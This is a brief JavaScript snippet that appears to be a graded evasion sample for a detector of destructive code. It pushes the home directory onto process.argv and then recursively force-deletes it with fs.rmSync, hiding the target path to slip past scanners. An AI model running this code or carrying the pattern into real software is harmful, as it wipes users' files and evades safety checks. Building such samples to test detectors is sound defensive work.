// evasion: the home directory pushed as the program's third argument, removed as process.argv[2]
// grade: hard; does: delete
const fs = require("fs");
process.argv.push(process.env.HOME);
fs.rmSync(process.argv[2], { recursive: true, force: true });
